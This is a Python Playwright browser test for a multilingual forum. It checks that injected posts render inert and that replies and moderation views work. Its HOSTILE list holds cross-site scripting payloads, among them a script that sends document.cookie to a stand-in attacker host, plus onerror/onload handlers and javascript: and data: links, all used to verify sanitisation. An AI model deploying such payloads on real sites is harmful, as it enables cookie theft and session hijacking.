"""The forum in a real browser (Debian's Chromium against a real ``ictfootprint serve``): posts
with every injection render inert (no script runs, no dialog opens, no request leaves the
server), in English, Arabic and Chinese, at 1366 and 390 px with nothing wider than the screen;
a member replies through the form; an editor sees what is hidden and why."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, expect

from browser_support import Guarded, chromium, screenshot, serve
from ictfootprint.model import Role
from ictfootprint.portal.forum import service
from ictfootprint.store import Store

LANGS = ("en", "ar", "zh")
DESKTOP = {"width": 1366, "height": 900}
PHONE = {"width": 390, "height": 844}
ATTACKER = "http://attacker.example"
HOSTILE = [
    f"<script>fetch('{ATTACKER}/script?c='+document.cookie); window.pwned = 1</script>",
    f'<img src="{ATTACKER}/img.png" onerror="window.pwned = 2; alert(2)">',
    "[click me](javascript:window.pwned=3;alert(3))",
    f'<svg onload="window.pwned = 4"><script>fetch("{ATTACKER}/svg")</script></svg>',
    f'<style>body{{background:url("{ATTACKER}/css")}}</style>'
    f'<p style="background:url({ATTACKER}/inline)">styled</p>',
    f"![tracker]({ATTACKER}/pixel.gif) and [data](data:text/html,<script>alert(5)</script>)",
]
TITLES = {
    "en": "Free cooling below 18 °C: what did it save?",
    "ar": "التبريد الحر تحت 18 درجة: ماذا وفّر؟",
    "zh": "18 °C 以下的自然冷却：节省了多少？",
}
# what an injection would have left in the page, had one survived
LEFTOVERS = """() => {
  const body = [...document.querySelectorAll('.post-body, h1')];
  const inside = body.flatMap(b => [...b.querySelectorAll('*')]);
  return {
    pwned: window.pwned ?? null,
    scripts: [...document.scripts].map(s => s.src),
    elements: inside.filter(
      e => ['SCRIPT', 'IMG', 'SVG', 'STYLE', 'IFRAME'].includes(e.tagName.toUpperCase())).length,
    handlers: inside.filter(
      e => [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')).length,
    hrefs: inside.filter(e => e.tagName === 'A').map(a => a.getAttribute('href')),
    wide: document.documentElement.scrollWidth > window.innerWidth,
  };
}"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, dict[str, str], int]]:
    folder: Path = tmp_path_factory.mktemp("forum-site")
    url = f"sqlite:///{folder / 'site.db'}"
    store = Store.open(url, actor="test-setup")
    store.add_user("ana", Role.MEMBER)
    store.add_user("ben", Role.MEMBER)  # ana wrote the setup's posts: ben is under the limit
    store.add_user("eve", Role.EDITOR)
    tokens = {n: store.create_token(n, label="browser tests").token for n in ("ben", "eve")}
    unlimited = service.RateLimit(posts=1000)
    first = 0
    for lang in LANGS:
        thread = service.start_thread(
            store,
            user="ana",
            topic="energy",
            title=TITLES[lang],
            body="We cut our **PUE** from 1.6 to 1.3.\n\n> quoted\n\n- one\n- two",
            lang=lang,
            country="FRA",
            indicator="dc_pue",
            rate=unlimited,
        )
        first = first or thread.id
        for body in HOSTILE:
            service.reply(store, thread.id, user="ana", body=body, rate=unlimited)
    spam = service.reply(store, first, user="ana", body="cheap watches", rate=unlimited)
    service.hide_post(store, spam.id, moderator=True, reason="advertising")
    store.close()
    with serve(url) as base_url:
        yield base_url, tokens, first


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as opened:
        yield opened


def sign_in(guarded: Guarded, token: str) -> None:
    guarded.goto("/en/signin")
    guarded.page.locator("#token").fill(token)
    guarded.page.locator("#token").press("Enter")
    guarded.page.wait_for_url("**/en/submissions")


@pytest.mark.parametrize("lang", LANGS)
def test_hostile_posts_run_nothing_and_fetch_nothing(
    browser: Browser, site: tuple[str, dict[str, str], int], lang: str
) -> None:
    base_url, _, first = site
    thread_id = first + LANGS.index(lang)
    for size, viewport in (("1366", DESKTOP), ("390", PHONE)):
        dialogs: list[str] = []
        with Guarded(browser, base_url, viewport=viewport) as guarded:
            guarded.page.on("dialog", partial(_refuse, seen=dialogs))
            guarded.goto(f"/{lang}/forum/{thread_id}")
            expect(guarded.page.locator("h1")).to_have_text(TITLES[lang])
            expect(guarded.page.locator("article.post")).to_have_count(len(HOSTILE) + 1)
            found = guarded.page.evaluate(LEFTOVERS)
            assert found["pwned"] is None and dialogs == []
            assert [s.rsplit("/", 1)[-1].split("?")[0] for s in found["scripts"]] == ["site.js"]
            assert found["elements"] == 0 and found["handlers"] == 0
            assert all(h is None or h.startswith(("http", "mailto")) for h in found["hrefs"])
            assert not found["wide"], f"{lang} at {size} px scrolls sideways"
            assert guarded.page.locator("html").get_attribute("dir") == (
                "rtl" if lang == "ar" else "ltr"
            )
            expect(guarded.page.get_by_text("cheap watches")).to_have_count(0)
            screenshot(guarded.page, f"forum-thread-{lang}-{size}")
            guarded.goto(f"/{lang}/forum")
            assert not guarded.page.evaluate(LEFTOVERS)["wide"]
            screenshot(guarded.page, f"forum-{lang}-{size}")
            guarded.assert_clean()


def _refuse(dialog: Dialog, seen: list[str]) -> None:
    seen.append(dialog.message)
    dialog.dismiss()


def test_a_member_replies_through_the_form_and_an_editor_sees_what_is_hidden(
    browser: Browser, site: tuple[str, dict[str, str], int]
) -> None:
    base_url, tokens, first = site
    with Guarded(browser, base_url, viewport=DESKTOP) as guarded:
        sign_in(guarded, tokens["ben"])
        guarded.goto(f"/en/forum/{first}")
        guarded.page.locator("#body").fill("Same here: **1.25** after the retrofit.")
        guarded.page.get_by_role("button", name="Send the reply").click()
        guarded.page.wait_for_url(f"**/en/forum/{first}#post-*")
        expect(guarded.page.locator("article.post").last).to_contain_text("1.25 after the retrofit")
        expect(guarded.page.locator("article.post strong").last).to_have_text("1.25")
        guarded.assert_clean()
    with Guarded(browser, base_url, viewport=DESKTOP) as guarded:
        sign_in(guarded, tokens["eve"])
        guarded.goto(f"/ar/forum/{first}")
        hidden = guarded.page.locator("article.post.is-hidden")
        expect(hidden).to_have_count(1)
        expect(hidden).to_contain_text("advertising")
        expect(hidden).to_contain_text("أخفاه مشرف")
        screenshot(guarded.page, "forum-thread-editor-ar-1366")
        guarded.assert_clean()
